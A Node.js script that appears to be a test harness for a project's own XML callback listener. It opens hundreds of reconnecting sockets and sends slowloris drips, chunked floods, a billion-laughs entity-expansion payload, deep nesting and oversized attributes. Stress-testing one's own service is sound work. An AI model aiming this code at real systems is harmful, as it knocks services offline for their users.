// Misuses a listener as best it can until its stdin ends; then prints how many attacks were begun as JSON: {"attacks": 420}
// Usage: node listener-abuse.mjs <url>
import { randomUUID } from "node:crypto";
import { connect } from "node:net";
import { callbackMessage } from "./callback-message.mjs";

const { hostname, port, pathname } = new URL(process.argv[2]);
const timeLimitMs = 60_000;
const dripPauseMs = 1_000;

const head = `POST ${pathname} HTTP/1.1\r\nHost: x\r\n`;
const chunked = `${head}Transfer-Encoding: chunked\r\n\r\n`;
const prelude = "<CallbackRequest1><CallbackRequest>";
const line =
  "<UploadDevicesInfo><DeviceIdentifier><Kind>Imei</Kind><Identifier>358755010000009</Identifier></DeviceIdentifier><LineStatus>Line has been uploaded successfully</LineStatus></UploadDevicesInfo>";
const entities = Array.from(
  { length: 9 },
  (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
);

/** How many at once, what each sends first, and what it sends again and again: after a pause, or as fast as it goes. */
const attackers = [
  { many: 200, first: "" },
  { many: 100, first: head, drip: "X-More: 1\r\n" },
  { many: 100, first: `${head}Content-Length: 1000000\r\n\r\n${prelude}`, drip: "<a/>" },
  { many: 4, first: chunked, flood: chunk(" ".repeat(65_536)) },
  { many: 4, first: chunked + chunk(prelude), flood: chunk(line.repeat(300)) },
  { many: 1, first: message(`${prelude}<a></b>`) },
  { many: 1, first: message(`<!DOCTYPE x [<!ENTITY l0 "lol">${entities.join("")}]><x>&l9;</x>`) },
  { many: 1, first: message(prelude + "<a>".repeat(100_000)) },
  { many: 1, first: message(`${prelude}<a b="${"x".repeat(8_000_000)}"/>`) },
  { many: 2, first: message(strangeCallback("guess")) },
  { many: 2, first: message(strangeCallback()).slice(0, -1) },
  { many: 2, first: "nonsense\r\n\r\n" },
];

let attacks = 0;
let isOver = false;
const sockets = new Set();
const limit = setTimeout(end, timeLimitMs);
process.stdin.once("end", end).resume();
for (const attacker of attackers) for (let index = 0; index < attacker.many; index++) attack(attacker);

/** Begins again as soon as it is thrown out. */
function attack({ first, drip, flood }) {
  if (isOver) return;
  attacks += 1;
  const socket = open();
  const timer = drip === undefined ? undefined : setInterval(() => socket.write(drip), dripPauseMs);
  const send = (text) =>
    socket.write(text, (error) => (error || flood === undefined ? undefined : send(flood)));
  socket.once("connect", () => send(first));
  socket.once("close", () => {
    clearInterval(timer);
    setTimeout(attack, 10, { first, drip, flood });
  });
}

function open() {
  const socket = connect({ host: hostname.replace(/[[\]]/g, ""), port });
  sockets.add(socket);
  socket.on("error", () => undefined);
  socket.on("end", () => socket.destroy());
  socket.once("close", () => sockets.delete(socket));
  return socket.resume();
}

function end() {
  if (isOver) return;
  isOver = true;
  clearTimeout(limit);
  for (const socket of sockets) socket.destroy();
  console.log(JSON.stringify({ attacks }));
}

function message(body) {
  return `${head}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;
}

function chunk(text) {
  return `${text.length.toString(16)}\r\n${text}\r\n`;
}

function strangeCallback(password) {
  return callbackMessage({ requestId: randomUUID(), lines: 10_000, ...(password && { password }) });
}
